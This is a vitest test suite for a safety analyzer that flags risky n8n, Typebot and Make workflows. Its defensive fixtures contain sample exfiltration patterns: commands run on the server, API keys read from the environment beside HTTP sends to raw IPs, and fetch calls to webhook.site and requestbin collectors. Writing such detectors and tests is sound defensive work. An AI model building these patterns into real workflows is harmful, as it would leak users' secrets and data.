import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { analyzeSafety, fullReport, SAFETY_RULES, type SafetyReport } from "@/lib/workflow/safety";

type Platform = "N8N" | "TYPEBOT" | "MAKE";
interface Expected {
  level: "none" | "attention" | "high";
  rules: string[];
}

const DIR = path.join(__dirname, "../../fixtures/safety");
const expected = JSON.parse(readFileSync(path.join(DIR, "expected.json"), "utf8")) as Record<string, Expected>;
const fixtures = readdirSync(DIR)
  .filter((file) => file.endsWith(".json") && file !== "expected.json")
  .sort();

const platformOf = (file: string): Platform => (file.startsWith("n8n-") ? "N8N" : file.startsWith("tb-") ? "TYPEBOT" : "MAKE");
const load = (file: string) => JSON.parse(readFileSync(path.join(DIR, file), "utf8")) as unknown;
const reports = new Map(fixtures.map((file) => [file, analyzeSafety(platformOf(file), load(file))]));

/** One plain pt-BR sentence: capital first letter, a final period, no second sentence inside. */
function expectPtBrSentence(message: string) {
  expect(message).toMatch(/^[A-ZÁÉÍÓÚÂÊÔÃÕÇ]/);
  expect(message).toMatch(/\.$/);
  expect(message.slice(0, -1)).not.toMatch(/[.!?]\s+[A-ZÁÉÍÓÚ]/);
  expect(message).toMatch(/\b(?:que|não|servidor|dados|endereço|código|arquivos|internet|comandos)\b/);
  // Hosts, paths and names in parentheses are the workflow's own words.
  expect(message.replace(/\([^)]*\)|“[^”]*”/g, "")).not.toMatch(/\b(?:the|node|server|file|could|which)\b/i);
}

function expectWellFormed(report: SafetyReport) {
  for (const finding of report.findings) {
    expect(finding.nodes.length).toBeGreaterThan(0);
    expect(new Set(finding.nodes).size).toBe(finding.nodes.length);
    expectPtBrSentence(finding.message);
    expect(SAFETY_RULES.some((rule) => rule.id === finding.rule && rule.severity === finding.severity)).toBe(true);
  }
  const order = report.findings.map((f) => `${f.severity === "high" ? 0 : 1}:${f.rule}`);
  expect(order).toEqual([...order].sort());
  expect(report.level).toBe(report.findings[0]?.severity ?? "none");
}

describe("analyzeSafety – judged fixtures", () => {
  it("has a manifest entry for every fixture and at least 60 fixtures", () => {
    expect(fixtures.length).toBeGreaterThanOrEqual(60);
    expect(Object.keys(expected).sort()).toEqual(fixtures);
  });

  it.each(fixtures)("%s", (file) => {
    const report = reports.get(file)!;
    const want = expected[file]!;
    expect({ level: report.level, rules: report.findings.map((f) => f.rule).sort() }).toEqual({ level: want.level, rules: [...want.rules].sort() });
    expectWellFormed(report);
  });

  it("covers every rule at least once, on a tool it belongs to", () => {
    const covered = new Set<string>();
    for (const [file, want] of Object.entries(expected)) {
      for (const rule of want.rules) {
        expect(
          SAFETY_RULES.some((r) => r.id === rule && r.platform === platformOf(file)),
          `${rule} em ${file}`,
        ).toBe(true);
        covered.add(rule);
      }
    }
    expect([...new Set(SAFETY_RULES.map((r) => r.id))].filter((id) => !covered.has(id))).toEqual([]);
  });

  it("finds the dangerous flows and leaves the harmless ones alone (recall ≥ 0.95, harmless-as-high ≤ 5 %)", () => {
    const dangerous = fixtures.filter((f) => expected[f]!.level === "high");
    const harmless = fixtures.filter((f) => expected[f]!.level !== "high");
    const recall = dangerous.filter((f) => reports.get(f)!.level === "high").length / dangerous.length;
    const falseHigh = harmless.filter((f) => reports.get(f)!.level === "high").length / harmless.length;
    const truePositives = dangerous.filter((f) => reports.get(f)!.level === "high").length;
    const predictedHigh = fixtures.filter((f) => reports.get(f)!.level === "high").length;
    console.info(
      `[safety] ${fixtures.length} fixtures (${dangerous.length} high, ${harmless.length} harmless): ` +
        `recall(high)=${recall.toFixed(3)}, precision(high)=${(truePositives / Math.max(predictedHigh, 1)).toFixed(3)}, ` +
        `harmless marked high=${(falseHigh * 100).toFixed(1)} %`,
    );
    expect(dangerous.length).toBeGreaterThan(0);
    expect(harmless.length).toBeGreaterThan(0);
    expect(recall).toBeGreaterThanOrEqual(0.95);
    expect(falseHigh).toBeLessThanOrEqual(0.05);
  });
});

describe("analyzeSafety – report shape", () => {
  it("names the nodes in workflow order and words the message in pt-BR", () => {
    const report = reports.get("n8n-open-webhook-to-command.json")!;
    expect(report.findings.map((f) => f.rule)).toEqual(["execute-command", "open-webhook-to-risky-node"]);
    expect(report.findings[0]!.message).toBe("O nó “Rodar comando” roda comandos no servidor onde o n8n está instalado.");
    expect(report.findings[1]!.nodes).toEqual(["Webhook", "Rodar comando"]);
    expect(reports.get("make-route-webhook-site.json")!.findings[0]!.nodes).toEqual(["5 · http:ActionSendData"]);
    expect(reports.get("tb-webhook-public-ip.json")!.findings[0]!.nodes).toEqual(["Enviar · Requisição HTTP"]);
    expect(reports.get("tb-webhook-public-ip.json")!.findings[0]!.message).toContain("203.0.113.50");
  });

  it("groups several nodes under one finding with plural wording", () => {
    const report = analyzeSafety("N8N", {
      nodes: [
        { name: "A", type: "n8n-nodes-base.executeCommand", parameters: { command: "ls" } },
        { name: "B", type: "n8n-nodes-base.executeCommand", parameters: { command: "pwd" } },
        { name: "A", type: "n8n-nodes-base.executeCommand", parameters: { command: "id" } },
      ],
      connections: {},
    });
    expect(report.findings).toHaveLength(1);
    expect(report.findings[0]!.nodes).toEqual(["A", "B"]);
    expect(report.findings[0]!.message).toBe("Os nós “A” e “B” rodam comandos no servidor onde o n8n está instalado.");
  });

  it("lists every rule once per tool, with stable kebab-case ids and one severity per id", () => {
    const severities = new Map<string, string>();
    for (const rule of SAFETY_RULES) {
      expect(rule.id).toMatch(/^[a-z]+(?:-[a-z0-9]+)*$/);
      expect(["N8N", "TYPEBOT", "MAKE"]).toContain(rule.platform);
      expect(rule.summary).toMatch(/\S/);
      expect(severities.get(rule.id) ?? rule.severity).toBe(rule.severity);
      severities.set(rule.id, rule.severity);
    }
    const pairs = SAFETY_RULES.map((r) => `${r.id}@${r.platform}`);
    expect(new Set(pairs).size).toBe(pairs.length);
  });
});

describe("analyzeSafety – where the known escapes land", () => {
  const rulesOf = (report: SafetyReport) => report.findings.map((f) => `${f.rule}:${f.nodes.join("|")}`);

  it("puts an inline sub-workflow's findings on the node that runs it, without its triggers", () => {
    const inner = {
      nodes: [
        { name: "Webhook interno", type: "n8n-nodes-base.webhook", parameters: {} },
        { name: "Comando", type: "n8n-nodes-base.executeCommand", parameters: { command: "id" } },
      ],
      connections: { "Webhook interno": { main: [[{ node: "Comando" }]] } },
    };
    const report = analyzeSafety("N8N", {
      nodes: [
        { name: "Webhook", type: "n8n-nodes-base.webhook", parameters: { path: "x" } },
        { name: "Sub", type: "n8n-nodes-base.executeWorkflow", parameters: { source: "parameter", workflowJson: JSON.stringify(inner) } },
      ],
      connections: { Webhook: { main: [[{ node: "Sub" }]] } },
    });
    expect(rulesOf(report)).toEqual(["execute-command:Sub", "open-webhook-to-risky-node:Webhook|Sub"]);
    expect(report.findings[0]!.message).toBe("O nó “Sub” roda comandos no servidor onde o n8n está instalado.");
  });

  it("stops reading inline sub-workflows three levels down", () => {
    let workflow: Record<string, unknown> = { nodes: [{ name: "Comando", type: "n8n-nodes-base.executeCommand", parameters: {} }], connections: {} };
    const wrap = () => ({
      nodes: [{ name: "Sub", type: "n8n-nodes-base.executeWorkflow", parameters: { source: "parameter", workflowJson: JSON.stringify(workflow) } }],
      connections: {},
    });
    for (let i = 0; i < 3; i++) workflow = wrap();
    expect(analyzeSafety("N8N", workflow).level).toBe("high");
    workflow = wrap();
    expect(analyzeSafety("N8N", workflow).level).toBe("none");
  });

  it("reports a constant followed from a Set node on the node that sends to it, naming the host", () => {
    const report = reports.get("n8n-set-collector-url-node-ref.json")!;
    expect(rulesOf(report)).toEqual(["suspicious-host:Copiar clientes"]);
    expect(fullReport(report).findings[0]!.message).toContain("en2x9q.x.requestbin.com");
  });

  it("treats an authentication value n8n does not check as none, and an expression by its value", () => {
    const webhook = (authentication: unknown) =>
      analyzeSafety("N8N", { nodes: [{ name: "W", type: "n8n-nodes-base.webhook", parameters: { authentication } }], connections: {} }).level;
    expect(["none", "BasicAuth", "basic", "token", "predefinedCredentialType", 1, "={{ 'nenhuma' }}"].map(webhook)).toEqual(Array(7).fill("attention"));
    expect(["basicAuth", "headerAuth", "jwtAuth", "={{ 'header' + 'Auth' }}"].map(webhook)).toEqual(Array(4).fill("none"));
  });
});

describe("analyzeSafety – odd input", () => {
  const NONE = { level: "none", findings: [] };

  it.each([null, undefined, 0, 42, "texto", '{"nodes": []}', true, [], [{ nodes: [] }]])("returns none for %j", (input) => {
    for (const platform of ["N8N", "TYPEBOT", "MAKE"] as const) expect(analyzeSafety(platform, input)).toEqual(NONE);
  });

  it("returns none for objects of the wrong shape or an unknown platform", () => {
    expect(analyzeSafety("N8N", { flow: [] })).toEqual(NONE);
    expect(analyzeSafety("MAKE", { nodes: [{ type: "n8n-nodes-base.executeCommand" }] })).toEqual(NONE);
    expect(analyzeSafety("TYPEBOT", { groups: "x", webhooks: 3 })).toEqual(NONE);
    expect(analyzeSafety("ZAPIER" as "N8N", { nodes: [{ name: "x", type: "n8n-nodes-base.executeCommand" }] })).toEqual(NONE);
  });

  it("survives junk entries, odd field types, a throwing getter and cycles", () => {
    const cyclic: Record<string, unknown> = { url: "http://45.77.12.9/x" };
    cyclic.self = cyclic;
    const report = analyzeSafety("N8N", {
      nodes: [null, 7, "nó", { name: { x: 1 }, type: 42, parameters: "x" }, { name: "Ciclo", type: "n8n-nodes-base.httpRequest", parameters: cyclic }],
      connections: { Ciclo: { main: "x" }, Outro: 5 },
    });
    expect(report.level).toBe("high");
    expect(report.findings[0]!.nodes).toEqual(["Ciclo"]);

    const hostile = { nodes: [{ name: "x", type: "n8n-nodes-base.code", parameters: {} }] };
    Object.defineProperty(hostile.nodes[0]!.parameters, "jsCode", {
      enumerable: true,
      get: () => {
        throw new Error("boom");
      },
    });
    expect(() => analyzeSafety("N8N", hostile)).not.toThrow();
  });

  it("handles very deep nesting without overflowing the stack", () => {
    let params: Record<string, unknown> = { url: "http://45.77.12.9/fundo" };
    for (let i = 0; i < 20_000; i++) params = { inner: params };
    expect(analyzeSafety("N8N", { nodes: [{ name: "Fundo", type: "n8n-nodes-base.httpRequest", parameters: params }] })).toEqual(NONE);

    let flow: unknown[] = [{ id: 1, module: "http:ActionSendData", mapper: { url: "https://webhook.site/x" } }];
    for (let i = 0; i < 20_000; i++) flow = [{ id: i + 2, module: "builtin:BasicRouter", routes: [{ flow }] }];
    expect(() => analyzeSafety("MAKE", { flow })).not.toThrow();
  });

  it("ignores a webhook that only reaches harmless nodes, even through a cycle", () => {
    const report = analyzeSafety("N8N", {
      nodes: [
        { name: "Webhook", type: "n8n-nodes-base.webhook", parameters: {} },
        { name: "Set", type: "n8n-nodes-base.set", parameters: {} },
      ],
      connections: { Webhook: { main: [[{ node: "Set" }]] }, Set: { main: [[{ node: "Webhook" }, { node: "Set" }]] } },
    });
    expect(report.findings.map((f) => f.rule)).toEqual(["open-webhook"]);
  });

  // Linear time is what is tested (a backtracking pattern would take seconds); the budget leaves room
  // for a shared CI machine. scripts/bench/upload-cost.ts measures the real cost.
  it("analyses a 1 MB workflow in under 200 ms", () => {
    const nodes: { name: string; type: string; parameters: Record<string, unknown> }[] = [];
    for (let i = 0; nodes.length < 4_000; i++) {
      nodes.push(
        {
          name: `Set ${i}`,
          type: "n8n-nodes-base.set",
          parameters: { assignments: { assignments: [{ name: "campo", value: `={{ $json.valor_${i} }}`, type: "string" }] } },
        },
        {
          name: `HTTP ${i}`,
          type: "n8n-nodes-base.httpRequest",
          parameters: { url: `https://api.exemplo.com.br/v1/itens/${i}?pagina=${i}`, method: "POST", options: {} },
        },
        {
          name: `Código ${i}`,
          type: "n8n-nodes-base.code",
          parameters: {
            jsCode:
              `// mapeia os campos\nreturn items.map(item => ({ json: { id: item.json.id, total: item.json.preco * ${i}, nome: String(item.json.nome).trim() } }));\n`.repeat(
                2,
              ),
          },
        },
        { name: `Nota ${i}`, type: "n8n-nodes-base.stickyNote", parameters: { content: "x".repeat(120) } },
      );
    }
    const workflow = { nodes, connections: Object.fromEntries(nodes.slice(1).map((n, i) => [nodes[i]!.name, { main: [[{ node: n.name }]] }])) };
    const bytes = JSON.stringify(workflow).length;
    expect(bytes).toBeGreaterThan(1_000_000);
    analyzeSafety("N8N", workflow);
    // The best of several runs: the machine is shared, and a slow run says more about the neighbours.
    const times: number[] = [];
    for (let i = 0; i < 7; i++) {
      const start = performance.now();
      expect(analyzeSafety("N8N", workflow).level).toBe("none");
      times.push(performance.now() - start);
    }
    times.sort((a, b) => a - b);
    console.info(
      `[safety] ${(bytes / 1e6).toFixed(2)} MB n8n workflow (${nodes.length} nodes) analysed in ${times[0]!.toFixed(2)} ms (best of 7; median ${times[3]!.toFixed(2)} ms)`,
    );
    expect(times[0]).toBeLessThan(200);
  });

  it("scans a huge single string field in bounded time", () => {
    const huge = `return 1;\n${"a".repeat(2_000_000)} fetch('https://webhook.site/tarde')`;
    const start = performance.now();
    const report = analyzeSafety("N8N", { nodes: [{ name: "Enorme", type: "n8n-nodes-base.code", parameters: { jsCode: huge } }] });
    const ms = performance.now() - start;
    console.info(`[safety] 2 MB code field analysed in ${ms.toFixed(2)} ms`);
    expect(report.level).toBe("none");
    expect(ms).toBeLessThan(200);
  });
});

describe("the report for preview readers", () => {
  it("keeps every finding but drops the hosts and variable names, which are parameter values", async () => {
    const { fullReport, previewReport } = await import("@/lib/workflow/safety");
    const report = analyzeSafety("N8N", {
      nodes: [
        { name: "Chave", type: "n8n-nodes-base.set", parameters: { value: "={{ $env.OPENAI_API_KEY }}" } },
        { name: "Enviar", type: "n8n-nodes-base.httpRequest", parameters: { url: "http://45.33.12.9/coleta" } },
        { name: "Pacote", type: "n8n-nodes-evolution-api.evolutionApi", parameters: {} },
      ],
      connections: {},
    });
    const full = fullReport(report);
    const preview = previewReport(report);
    expect(preview.level).toBe(full.level);
    expect(preview.findings.map((f) => [f.rule, f.nodes])).toEqual(full.findings.map((f) => [f.rule, f.nodes]));
    const fullText = full.findings.map((f) => f.message).join(" ");
    const previewText = preview.findings.map((f) => f.message).join(" ");
    expect(fullText).toContain("OPENAI_API_KEY");
    expect(fullText).toContain("45.33.12.9");
    expect(previewText).not.toContain("OPENAI_API_KEY");
    expect(previewText).not.toContain("45.33.12.9");
    // A package name comes from the node type, which the preview shows.
    expect(previewText).toContain("n8n-nodes-evolution-api");
    for (const finding of [...full.findings, ...preview.findings]) expect(finding).not.toHaveProperty("previewMessage");
  });
});
